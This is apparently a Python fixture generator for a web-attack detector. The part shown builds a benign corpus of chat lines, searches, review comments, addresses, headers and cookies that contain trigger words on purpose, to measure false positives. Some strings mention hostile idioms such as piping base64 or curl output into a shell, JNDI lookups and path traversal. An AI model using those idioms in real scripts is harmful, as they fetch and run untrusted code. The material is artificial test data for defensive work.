    "the marquee joke in the retro slides was peak 1999",
    "the video element needs a <source> per codec, webm and mp4",
    "template literals make the SQL builder so much nicer to read",
    "DOMPurify strips the onclick, which is what we want",
    "the math rendering uses KaTeX, not <math> tags",
    "contenteditable in Firefox inserts <br> everywhere, annoying",
    "we escape < and > as &lt; and &gt; in the email templates",
    "the constructor of the Toast class takes an options object",
    "animate the progress bar with CSS, not setInterval",
    "the focus ring on the search input is gone after the redesign, a11y bug filed",
    "ontoggle on <details> is supported everywhere now, caniuse says 97%",
    "throw new Error('not implemented') is a placeholder until Friday",
    # shell
    "run `cat /var/log/app.log | grep ERROR` on the box and paste the output",
    "`ls -la ~/.ssh` shows the key has the wrong permissions, chmod 600 it",
    "ping me when the deploy is done && I'll run the smoke tests",
    "whoami on the CI runner says `runner`, so it doesn't have root",
    "`curl -s https://api.example.com/health | jq .status` returns ok",
    "`echo $PATH` on the build box is missing /usr/local/bin",
    "the script uses ${HOME}/.config/app, not /etc/app",
    "use `$(pwd)` instead of backticks in the Makefile, reads better",
    "wget is not installed in the slim image, use curl",
    "`base64 -d` on mac is `base64 -D`, that's why the script broke",
    "the cron runs `find /tmp -mtime +7 -delete` every night",
    "IFS=, in the import script splits the CSV, careful with quoted commas",
    "the cat walked over my keyboard and sent that message, ignore it",
    "powershell Get-ChildItem is like ls, took me a while",
    "on Windows the path is C:\\Users\\dev\\AppData\\Local\\app",
    "type nul > file.txt is the windows version of touch",
    "%APPDATA% is where the desktop app keeps the logs",
    "the `sleep 5` in the entrypoint waits for postgres, we should use pg_isready",
    "`nc -zv db 5432` says the port is open",
    "bash brace expansion {a,b,c} saved me so much typing today",
    "the wildcard /tmp/*.log matched too much, be careful with rm",
    "python3 -c 'import this' for the zen, if you need a break",
    "`xxd` is the quickest way to see the BOM in that file",
    "run printf '%s\\n' to debug the variable, echo eats the dashes",
    "${PATH:0:1} is a neat bash trick but please don't put it in prod scripts",
    "the caret ^ escapes characters in cmd.exe, like backslash in bash",
    "set /a in batch files does arithmetic, who knew",
    # php
    "php 8.3 upgrade: system() and exec() are disabled in our fpm pool anyway",
    "the `<?php` opening tag must be the first bytes of the file or headers break",
    "unserialize() on user input is banned, use json_decode",
    "array_map with a closure is cleaner than the foreach",
    "usort callback must return int in php 8, not bool",
    "the phar build for the cli is in tools/build-phar.sh",
    "php://stdin is how the cli reads piped input",
    "eval is evil, as the saying goes; the config loader no longer uses it",
    "<?= is short echo, always enabled since 5.4",
    "call_user_func is fine for the event dispatcher",
    "the WordPress plugin uses register_shutdown_function to flush the cache",
    # paths
    "the config lives in ../config/app.yml relative to the binary",
    "/etc/hosts on the dev box points api.local to 127.0.0.1",
    "/proc/self/status shows the container's memory limit",
    "copy it to C:\\Windows\\Temp and run the installer again",
    "the file:// URL works in Chrome for local previews",
    "the share is \\\\fileserver\\marketing\\2024 for the brand assets",
    "paths with ..\\ in the zip break the extractor on Windows, known bug",
    "the nginx access.log is rotated daily",
    "we moved the docs from /var/www/html to the S3 bucket",
    "web.config for the IIS box is in the repo now",
    "WEB-INF/web.xml still has the old servlet mapping",
    "the tilde in ~/Downloads doesn't expand inside quotes",
    # urls
    "the metadata endpoint 169.254.169.254 is blocked from the pods, by design",
    "localhost:8080 is the API, localhost:3000 the frontend",
    "the webhook URL needs to be https, http://127.0.0.1 won't work from Slack",
    "nip.io is handy for testing wildcard DNS locally",
    "gopher was the protocol before the web, fun history talk",
    "our internal DNS is *.corp.example, VPN only",
    "192.168.1.1 is the router admin page at home",
    "the ftp server for the legacy partner is finally shut down",
    "the redirect after login goes to /dashboard?tab=overview#recent",
    # java
    "log4j is on 2.23 now, ${jndi:...} lookups are gone for good",
    "the ${env:HOME} style lookups in log4j2.xml are fine, they're our own config",
    "Spring's @Value(\"${app.timeout}\") reads from application.yml",
    "SpEL #{...} in the security annotations only, reviewed",
    "Struts is gone from the stack since 2019, no OGNL anywhere",
    "Runtime.getRuntime().availableProcessors() returns the container's CPU count in Java 11+",
    "Class.forName for the JDBC driver isn't needed since JDBC 4",
    "Jackson polymorphic typing off, @JsonTypeInfo only on our own sealed classes",
    "ProcessBuilder with inheritIO() is how the CLI runs git",
    "rO0AB is what a Java serialized stream looks like in base64, fun fact",
    "the XStream upgrade is done, allowlist configured",
    "SnakeYAML 2.0 uses SafeConstructor by default",
    # node
    "require('child_process') is only used in the build scripts, not the server",
    "process.env.NODE_ENV is 'production' on the box",
    "Object.create(null) for the lookup maps, so no __proto__ surprises",
    "the prototype pollution fix is to freeze Object.prototype in tests",
    "constructor injection in NestJS is how the services get their repos",
    "lodash 4.17.21 fixes the merge issue",
    "import() for lazy routes cut the bundle by 30%",
    "Function.prototype.bind is what the old code used before arrow functions",
    "setTimeout(fn, 0) is not the same as queueMicrotask",
    "the vm module is not a security sandbox, per the docs",
    # templates
    "jinja {{ user.name }} escapes by default, autoescape is on",
    "in Twig use {{ var|e }} for the emails",
    "the ERB templates use <%= %> for output and <% %> for logic",
    "handlebars {{#each items}} loops are in the invoice template",
    "Freemarker ${price?string.currency} formats the money",
    "Velocity #set($total = 0) in the old report templates",
    "{{ }} in Vue templates is interpolation, same idea as jinja",
    "our mustache templates are logic-less, so no {{#if}} with expressions",
    "Thymeleaf th:text=\"${user.name}\" escapes, th:utext doesn't",
    "Smarty {$title} in the legacy CMS, we're migrating off it",
    # everyday chat
    "lunch: sushi or tacos? vote with :sushi: or :taco:",
    "I'm out tomorrow, back Thursday",
    "who has the keys to the meeting room on floor 3?",
    "congrats on the launch, everyone! :tada:",
    "the printer on 2 is jammed again; select 'tray 2' to avoid it",
    "happy birthday Sam! cake in the kitchen at 3",
    "Q3 OKRs: 1) cut p95 latency 2) ship SSO 3) hire 2 SREs",
    "meet @ 10:30, room \"Union\" (the big one)",
    "5 < 7 and 7 > 5, the sort order is fine",
    "price went from $10 to $12 (20%); finance approved",
    "it's 50/50 whether the train is late today",
    "yes & no: it works, but only on Tuesdays :)",
    "on my way \u2014 5 min",
    "\"or else what?\" \u2013 the best line from the movie",
    "the script for the demo video is in the drive",
    "select your seats for the offsite by Friday please",
    "order the pizzas by 5, the delivery takes 45 minutes",
    "we need to update the org chart; delete the old one from the wiki",
    "alert: coffee machine is broken again",
    "the exec team offsite is next week",
    "cat pictures channel is #pets, not #general :cat:",
    "Sleep is for the weak, said nobody at 3am on-call",
    "Union Station at 6? or the usual place",
    "sleep well everyone, big release tomorrow",
    "the drop-in session with HR is at 2pm in the big room",
    "running late, the 8:15 was cancelled -- sorry!",
    "new hire: please welcome Zo\u00eb D'Souza to the platform team :wave:",
    "reminder: expense reports due by the 5th (no exceptions)",
    "the offsite agenda: 9:00 intro / 10:00 roadmap / 12:00 lunch",
    "it's not a bug, it's a feature ;)",
    "\u00bfalguien sabe si la reuni\u00f3n de hoy sigue en pie?",
    "Das Meeting ist um 14 Uhr \u2013 bitte p\u00fcnktlich sein",
    "\u4eca\u65e5\u306e\u30df\u30fc\u30c6\u30a3\u30f3\u30b0\u306f15\u6642\u304b\u3089\u3067\u3059",
    "whiteboard photo from the design review: arrows go from <client> to [edge] to {api}",
    "the vote was 7:3 in favour of the new logo",
    "can we set up a 1:1 next week? any time between 10 and 4 works",
]

SEARCHES = [
    "union square hotels", "select comfort mattress", "cat food", "how to sleep better", "order by date",
    "java 21 features", "php 8.3 release notes", "node 20 lts", "log4j 2.17 changelog", "script writing course",
    "alert fatigue on-call", "drop shipping", "table tennis club", "insert coin", "update drivers windows 11",
    "delete account", "\"or\" vs \"and\" in grammar", "c# vs java", "1/2 cup to grams", "5' 11\" in cm",
    "O'Hare parking", "rock & roll hall of fame", "<3 emoji meaning", "what is ${} in bash",
    "jinja {{ }} whitespace", "what does ../ mean in a path", "etc/passwd file format", "cmd.exe run as admin",
    "powershell get-childitem recurse", "ping vs traceroute", "whoami command windows", "the cat in the hat",
    "ls vs dir", "curl post json", "python import os", "eval vs exec python", "javascript alert box",
    "svg onload event", "iframe srcdoc", "details element html", "video source tag",
    "constructor function javascript", "prototype chain", "__proto__ vs prototype", "require vs import",
    "child process node", "template literal", "sql injection prevention", "xss prevention",
    "owasp top 10 2021", "waf false positives", "mysql group_concat limit", "postgres jsonb operators",
    "sleep apnea", "benchmark gpu", "union jack flag", "select all shortcut mac", "order pizza near me",
    "drop table tennis", "exec summary template", "sh\u014dgi rules", "d'artagnan", "Ren\u00e9e O'Malley",
    "#1 best seller", "100% cotton shirts", "men's shoes size 10", "AT&T store hours", "R&D budget 2024",
    "Q&A session", "Procter & Gamble", "M&M's", "C++ vs Rust", "f(x) = x^2", "e = mc^2", "2 + 2 = 4",
    "a < b < c", "-- dashes in titles", "/* comment */ css", "#hashtag", "@mention", "~/.bashrc",
    "%appdata% location", "%20 in url", "file:// protocol", "http://localhost", "127.0.0.1:8080",
    "192.168.0.1 login", "169.254 address", "gopher protocol", "ldap vs active directory",
    "jndi tutorial", "spring expression language", "ognl struts", "freemarker template",
    "velocity template engine", "twig filters", "smarty template", "erb templates rails",
    "handlebars helpers", "java deserialization", "base64 decode online", "hex to ascii",
    "xxd command", "printf format specifiers", "awk begin block", "perl one liner", "rev command linux",
    "tr command", "brace expansion bash", "wildcard characters", "IFS bash", "caret windows cmd",
    "environment variables windows", "comspec", "certutil hash file", "bitsadmin", "wmic deprecated",
    "regsvr32", "mshta", "file inclusion php", "allow_url_include", "phpinfo", "serialize php",
    "array_map php", "usort php", "backtick php", "short open tag", "php filter wrapper",
    "nip.io", "localtest.me", "metadata server", "kubernetes service account token", "proc self environ",
    "web.config iis", "web-inf web.xml", "unc path", "ads alternate data stream", "null byte",
]

REVIEWS = [
    "nit: this select could use the covering index on (tenant_id, created_at)",
    "LGTM, but please parameterize the `WHERE name = '` + name + `'` bit, string building SQL is risky",
    "the `eval()` here is unnecessary, JSON.parse is enough",
    "rename `cmd` to `command` for clarity",
    "this `../` in the import path will break when we move the package",
    "we shouldn't shell out with `exec`, use the library's API",
    "add a test for names with apostrophes like O'Brien and D'Angelo",
    "the `<script>` escaping test case is good, keep it",
    "nice use of Object.freeze on the defaults",
    "can we avoid `require` inside the function? move it to the top",
    "the union type `string | null` should be narrowed before use",
    "this sleep(1) makes the test slow; use a fake clock",
    "drop the unused `order` parameter",
    "the `or` in the condition should be `and`, otherwise admins see everything",
    "please don't log `process.env`, it has secrets",
    "the constructor does too much, extract a factory",
    "prototype methods vs class fields: keep it consistent with the rest of the file",
    "the `${}` in the log message isn't interpolated because it's single-quoted",
    "use `{{ }}` in the template, the raw `{% %}` block is not needed",
    "the ERB `<%= %>` here should be `<%== %>` only if the content is trusted, it isn't",
    "`cat file | grep x` can be `grep x file`",
    "we need `set -euo pipefail` at the top of the script",
    "quote the variable: \"$file\", not $file",
    "`rm -rf $DIR/` is scary if DIR is empty, add a guard",
    "the PowerShell script should use -ErrorAction Stop",
    "the Windows path C:\\Program Files\\App has a space, quote it",
    "PHP: use `password_hash`, never md5",
    "`unserialize` with allowed_classes => false, or json",
    "`include $page . '.php'` needs an allowlist",
    "the file path comes from the user, please resolve it and check it's under the upload dir",
    "the URL fetcher must refuse private ranges like 10.0.0.0/8 and 169.254.0.0/16",
    "log4j config: remove the `${ctx:user}` from the pattern, it's untrusted",
    "Jackson: `enableDefaultTyping` must stay off",
    "the SpEL expression in the annotation is constant, that's fine",
    "handlebars: use `{{ }}`, not `{{{ }}}`, for user names",
    "lodash.merge on request bodies again? use a schema validator",
    "this regex `^(a+)+$` is catastrophic backtracking, please rewrite",
    "the `onerror` fallback on the avatar img is fine since the URL is ours",
    "please add `rel=\"noopener\"` to the target=_blank links",
    "the CSP still has 'unsafe-inline' for styles; track it in the ticket",
    "`innerHTML` with user text: switch to `textContent`",
    "the `javascript:` check in the link sanitizer should be case-insensitive",
    "this test name says 'select all' but it only selects the first page",
    "the migration deletes rows; back up the table first",
    "the benchmark numbers are from a laptop, rerun on the CI box",
    "move the SQL to a .sql file so the linter checks it",
    "`json_extract(settings, '$.theme')` should get a generated column",
    "the `1 = 1` placeholder in the query builder can go",
    "`LIMIT 1` is missing, this returns every row",
    "nice catch on the off-by-one in `substr(name, 0, 10)`",
    "the `ORDER BY` column comes from the query string, allowlist it",
    "naming: `isAdmin` vs `is_admin`, pick one",
    "the cron expression `*/5 * * * *` runs every five minutes, intended?",
    "the `ping` health check should time out after 2s",
    "`whoami` in the Dockerfile is a debugging leftover",
    "the `IFS` change leaks into the rest of the script; use a subshell",
    "why `base64 -d | sh` in the install docs? let's ship a real installer",
    "`xargs -0` with `find -print0`, otherwise spaces break it",
    "the `%PATH%` edit in the installer should append, not replace",
    "the `curl | bash` line in the README worries me, pin a checksum",
    "the XML parser should disable external entities",
    "rename `tpl` to `template`, and escape the `{{`",
    "`__proto__` keys in JSON input should be rejected by the schema",
    "`Object.assign({}, body)` is fine, `merge(target, body)` isn't",
    "`new Function` in the plugin loader: can we avoid it?",
    "the Pug template uses `!{}` unescaped output, switch to `#{}`",
    "Twig `|raw` on the comment body is wrong",
    "Jinja `|safe` on the bio must go",
    "the `.env.example` file shouldn't contain real keys",
    "good test for `..%2f` in the download path",
    "the image proxy must not follow redirects to internal addresses",
    "`file://` URLs must be refused in the webhook form",
    "the `<details>` FAQ looks great, ship it",
    "`<svg>` uploads must be sanitized or served as attachments",
    "approve with nits: typo in 'recieve', and the `--` in the SQL comment needs a space",
    "the doc example `SELECT * FROM users WHERE id = ?` is fine",
    "the union of the two permission sets should be computed once",
    "`Runtime.exec` with a single string splits on spaces, use the array form",
    "`ProcessBuilder` needs `redirectErrorStream(true)` here",
    "`@Value(\"#{systemProperties['user.region']}\")` is constant, fine",
    "the OGNL remark in the comment is outdated, we removed Struts",
]

ADDRESSES = [
    ("Siobh\u00e1n O'Brien", "O'Brien & Sons, 12 Union St., Dublin 2"),
    ("Ann Select", "Flat 3/2, 45 Select Road, Glasgow G12 8QQ"),
    ("Robert Tables", "Apt. #5, 100 Main St, Springfield, OR 97477"),
    ("Jean-Luc D'Angelo", "Rue de l'\u00c9glise 4, 1000 Bruxelles"),
    ("Mar\u00eda Jos\u00e9 Carre\u00f1o", "Calle O'Donnell 12, 28009 Madrid"),
    ("Sam Script", "Script House, 7 Alert Lane, Bristol"),
    ("Zo\u00eb \u00dcnal", "Hauptstra\u00dfe 5 / 2. OG, 10115 Berlin"),
    ("Li Wei \u674e\u4f1f", "\u5317\u4eac\u5e02\u671d\u9633\u533a 100020"),
    ("Chris Exec", "Suite 200 (rear), 1-3 Exec Park, Leeds LS1 4AP"),
    ("Pat O'Hara-Smith", "c/o Smith & Co., P.O. Box 1234, Austin, TX 78701"),
    ("Dana Union", "Union Wharf, Unit 6, 23 Wenlock Rd, London N1 7SB"),
    ("Alex Cat", "12 Cat Hill, Barnet EN4 8HG"),
    ("Jamie Sleep", "Sleepy Hollow Rd #4, Tarrytown, NY 10591"),
    ("Morgan Order", "Order Street 9; Building B; 3rd floor"),
    ("Kim Drop", "1 Drop Lane, Appleby-in-Westmorland CA16 6XX"),
    ("Robin Ping", "Ping Tower, 88 Harbour Rd, Wan Chai, Hong Kong"),
    ("Taylor Benchmark", "Benchmark House, 203 Smedley Rd, Manchester M8 0RS"),
    ("Jordan Select-Jones", "The Old Mill, Select Way, Bath BA1 1AA"),
    ("Casey Or", "Or Yehuda, Derech Ha'Atzmaut 10, Israel"),
    ("Avery And", "Andover House, 1 & 2 Market Sq., Andover SP10 1AA"),
    ("Riley Null", "Null Island, 0\u00b00'0\"N 0\u00b00'0\"E"),
    ("Quinn <Admin>", "Admin Bldg, Room 101, 1 University Ave"),
    ("Drew 'DJ' Jackson", "Studio 4, 55 Rock & Roll Blvd, Cleveland, OH"),
    ("Noor Al-Rashid", "PO Box 5050, Dubai, UAE (attn: Noor)"),
    ("Sasha Eval", "Evaluation Centre, 3 Proof Rd, Cambridge CB3 0FD"),
    ("Charlie Path", "../Flat B, 10 Path Rd, Oxford"),
    ("Frankie Root", "Root Cellar Caf\u00e9, 9 Cellar St, Brighton BN1 1AA"),
    ("Ellis Java", "Jalan Jawa No. 7, Surabaya 60271"),
    ("Harper Node", "Node House, 100 Node Rd, Reading RG1 1AA"),
    ("Logan Proto", "Prototype Lane 1, 2000 Antwerpen"),
]

DOC_LINKS = [
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://dev.mysql.com/doc/refman/8.0/en/json-search-functions.html",
    "https://www.postgresql.org/docs/current/functions-json.html",
    "https://www.postgresql.org/docs/current/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/details",
    "https://developer.mozilla.org/en-US/docs/Web/API/HTMLElement/error_event",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://developer.mozilla.org/en-US/docs/Web/SVG/Element/animate",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://www.php.net/manual/en/function.array-map.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://nodejs.org/api/child_process.html#child_processexeccommand-options-callback",
    "https://nodejs.org/api/vm.html",
    "https://logging.apache.org/log4j/2.x/manual/lookups.html",
    "https://docs.oracle.com/javase/8/docs/api/java/lang/ProcessBuilder.html",
    "https://docs.spring.io/spring-framework/reference/core/expressions.html",
    "https://jinja.palletsprojects.com/en/3.1.x/templates/",
    "https://twig.symfony.com/doc/3.x/filters/map.html",
    "https://freemarker.apache.org/docs/ref_builtins_expert.html",
    "https://handlebarsjs.com/guide/builtin-helpers.html",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/cmd",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.core/about/about_pwsh",
    "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://www.gnu.org/software/bash/manual/html_node/Brace-Expansion.html",
    "https://www.gnu.org/software/bash/manual/html_node/Shell-Parameter-Expansion.html",
    "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
    "https://cloud.google.com/compute/docs/metadata/overview",
    "https://github.com/acme/app/pull/1234#discussion_r987654",
    "https://github.com/acme/app/blob/main/src/db/query.php#L10-L42",
    "https://example.com/search?q=select+union&sort=desc",
    "https://stackoverflow.com/questions/1234567/how-to-use-union-in-sql",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://maps.example.com/?q=Union+St+%26+5th+Ave",
    "https://shop.example.com/cat/cat-toys?sort=price&order=asc",
    "https://en.wikipedia.org/wiki/Bobby_Tables",
    "https://en.wikipedia.org/wiki/Prototype_pollution",
    "https://en.wikipedia.org/wiki/Log4Shell",
    "https://www.rfc-editor.org/rfc/rfc3986#section-5.2.4",
    "https://datatracker.ietf.org/doc/html/rfc7578",
    "https://docs.python.org/3/library/subprocess.html",
    "https://kubernetes.io/docs/tasks/run-application/access-api-from-pod/",
    "https://nip.io/",
    "https://example.org/files/O'Reilly%20-%20Notes%20(draft).pdf",
    "https://blog.example.com/2024/05/why-we-dropped-eval/",
    "https://calendar.example.com/event?title=Union%20meeting&when=10:30",
]

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 "
    "Mobile Safari/537.36",
    "curl/8.4.0", "python-requests/2.31.0", "Go-http-client/2.0", "okhttp/4.12.0", "PostmanRuntime/7.36.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", "axios/1.6.8",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Java/17.0.10", "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A)",
    "Wget/1.21.4", "PowerShell/7.4.1", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "AcmeApp/3.2.1 (iOS 17.4; iPhone15,2; en_GB) CFNetwork/1494.0.7 Darwin/23.4.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
]

REFERERS = [
    "https://www.google.com/search?q=union+station+parking",
    "https://duckduckgo.com/?q=select+2+tickets&ia=web",
    "https://www.bing.com/search?q=cat+%26+dog+insurance",
    "https://app.example.com/admin/users?sort=name&order=desc",
    "https://app.example.com/reports?from=2024-01-01&to=2024-03-31&group=week",
    "https://github.com/acme/app/issues/42#issuecomment-1",
    "https://mail.example.com/u/0/#inbox/FMfcgz",
    "https://docs.example.com/guide/templates#{{variables}}",
    "https://www.example.co.uk/search?q=O%27Brien%27s+pub",
    "https://t.co/abc123",
    "https://app.example.com/search?q=%3Cscript%3E+tag+docs",
    "https://news.ycombinator.com/item?id=40000000",
]

UPLOADS = [
    "O'Brien - CV (final).pdf", "report_2024-05 [draft].docx", "cat & dog.png", "select-menu.svg",
    "script.js", "C:\\Users\\ann\\Desktop\\photo.jpg", "Zo\u00eb's passport scan.jpg", "union_jack.gif",
    "invoice #1234.pdf", "notes; meeting 3.txt", "order-confirmation (2).html", "backup.tar.gz",
    "\u5199\u771f.png", "resume.v2.final.FINAL.pdf", "sleep-study-results.csv", "exec-summary.pptx",
]

XML_NOTES = [
    "Please select the blue one & ship by Friday",
    "Meeting with the Union rep at 10:30",
    "Use <b>bold</b> for the heading",
    "O'Neil's order: 2 x cat food, 1 x litter",
    "price < 100 and rating > 4",
    "see https://docs.example.com/a?b=1&c=2",
    "the ${total} placeholder is filled by the invoice tool",
    "drop-off at the back door; ring twice",
]

COOKIES = [
    "theme=dark; lang=en-GB; tz=Europe%2FLondon",
    "prefs=%7B%22sort%22%3A%22name%22%2C%22order%22%3A%22desc%22%7D",
    "recent_search=union%20square; consent=yes",
    "cart=cat-food%2Cdog-toy; currency=EUR",
    "last_page=%2Fadmin%2Fusers%2Fsearch%3Fq%3Dann; _ga=GA1.2.123.456",
    "filter=status%3Dactive%26role%3Dadmin",
    "banner_dismissed=1; layout=grid; sidebar=collapsed",
    "draft=Hi%20O%27Brien%2C%20see%20you%20at%2010%3A30",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    for s in SEARCHES:
        for rec in (_get(_query("/api/users", [("q", s), ("page", "1")])),
                    _get(_query("/admin/users/search", [("csrf_token", "t0k3n"), ("q", s)]))):
            n += 1
            yield {**rec, "id": f"{NAME}-search-{n:04d}", "category": "benign", "placement": "query"}
    for url in DOC_LINKS:
        for rec in link_requests(url):
            n += 1
            yield {**rec, "id": f"{NAME}-url-{n:04d}", "category": "benign", "placement": "mixed"}
    for text in REVIEWS:
        n += 1
        yield {**prose_request(text), "id": f"{NAME}-review-{n:04d}", "category": "benign", "placement": "form"}
        n += 1
        yield {**_json("/api/users/42", {"review_comment": text, "status": "changes_requested"}),
               "id": f"{NAME}-review-{n:04d}", "category": "benign", "placement": "json"}
    for person, address in ADDRESSES:
        n += 1
        yield {**_json("/api/users", {"name": person, "address": address}), "id": f"{NAME}-address-{n:04d}",
               "category": "benign", "placement": "json"}
        n += 1
        yield {**_form("/admin/users/search", [("csrf_token", "t0k3n"), ("q", person), ("address", address)]),
               "id": f"{NAME}-address-{n:04d}", "category": "benign", "placement": "form"}
        n += 1
        yield {**bio_request(f"{person} \u2014 {address}"), "id": f"{NAME}-bio-{n:04d}", "category": "benign",
               "placement": "json"}
    for ua in USER_AGENTS:
        n += 1
        yield {**_get("/api/users?page=1"), "headers": {"User-Agent": ua, "Accept": "application/json"},
               "id": f"{NAME}-ua-{n:04d}", "category": "benign", "placement": "header:User-Agent"}
    for ref in REFERERS:
        n += 1
        yield {**_get("/admin/users/search?csrf_token=t0k3n&q=ann"), "headers": _headers({"Referer": ref}),
               "id": f"{NAME}-referer-{n:04d}", "category": "benign", "placement": "header:Referer"}
    for i, fname in enumerate(UPLOADS):
        n += 1
        boundary = BOUNDARY if i % 2 else ODD_BOUNDARIES[i % len(ODD_BOUNDARIES)][1]
        ctype = f"multipart/form-data; boundary={boundary}" if i % 2 else ODD_BOUNDARIES[i % len(ODD_BOUNDARIES)][0]
        body = _multipart([("note", "my file"), ("title", fname.rsplit(".", 1)[0])], ("avatar", fname, "content"),
                          boundary)
        yield {"method": "POST", "uri": "/api/users/42/avatar", "body": body,
               "headers": {"User-Agent": UA, "Accept": "application/json", "Content-Type": ctype},
               "id": f"{NAME}-upload-{n:04d}", "category": "benign", "placement": "multipart"}
    for i, note in enumerate(XML_NOTES):
        n += 1
        inner = f"<![CDATA[{note}]]>" if i % 2 else xml_escape(note)
        body = f'<?xml version="1.0" encoding="UTF-8"?>\n<user><name>Ann</name><notes>{inner}</notes></user>'
        yield {"method": "POST", "uri": "/api/users", "body": body,
               "headers": _headers({"Content-Type": "application/xml"}),
               "id": f"{NAME}-xml-{n:04d}", "category": "benign", "placement": "xml"}
    for cookie in COOKIES:
        n += 1
        yield {**_get("/api/users?page=1"), "headers": _headers({"Cookie": cookie}),
               "id": f"{NAME}-cookie-{n:04d}", "category": "benign", "placement": "cookie"}


if __name__ == "__main__":
    for record in [*attacks(), *benign()]:
        print(json.dumps(record, ensure_ascii=False))
